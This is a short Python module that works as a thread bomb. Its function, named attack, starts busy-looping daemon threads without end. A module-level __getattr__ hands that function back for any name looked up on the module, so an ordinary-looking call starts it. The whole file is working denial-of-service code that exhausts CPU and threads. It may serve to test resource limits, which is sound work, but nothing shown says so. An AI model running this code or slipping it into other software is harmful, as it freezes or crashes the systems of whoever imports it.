"""Starts threads without end, each of them busy."""

import threading


def spin():
    while True:
        pass


def attack(*arguments, **keywords):
    while True:
        threading.Thread(target=spin, daemon=True).start()


def __getattr__(name):
    return attack
